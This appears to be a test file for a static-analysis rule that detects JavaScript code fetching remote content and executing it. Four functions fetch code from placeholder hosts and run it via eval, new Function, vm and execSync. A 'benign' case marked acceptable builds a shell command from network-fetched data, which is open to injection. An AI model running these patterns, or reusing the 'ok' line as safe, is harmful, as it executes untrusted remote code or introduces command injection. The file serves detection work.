const https = require("https");
const vm = require("vm");
const { execSync } = require("child_process");

async function stageOne() {
  const res = await fetch("https://payload.example.com/s.js");
  const body = await res.text();
  // ruleid: js-fetch-exec
  eval(body);
}

async function stageTwo() {
  const r = await fetch("http://192.0.2.8/x");
  // ruleid: js-fetch-exec
  new Function(await r.text())();
}

function stageThree() {
  https.get("https://payload.example.com/c", (res) => {
    let data = "";
    res.on("data", (chunk) => (data += chunk));
    // ruleid: js-fetch-exec
    res.on("end", () => vm.runInThisContext(data));
  });
}

async function stageFour() {
  const cmd = await (await fetch("https://payload.example.com/cmd")).text();
  // ruleid: js-fetch-exec
  execSync(cmd);
}

async function benign() {
  const res = await fetch("https://api.example.com/v1/items");
  const items = await res.json();
  // ok: js-fetch-exec
  console.log(items.length);
  // ok: js-fetch-exec
  execSync("git status");
  const device = await (await fetch("https://api.example.com/device")).json();
  // ok: js-fetch-exec
  execSync(`echo -n ${JSON.stringify(device.userCode)} | pbcopy`);
  const page = await (await fetch("https://api.example.com/list")).text();
  const re = /href="([^"]+)"/g;
  // ok: js-fetch-exec
  const m = re.exec(page);
  return m;
}
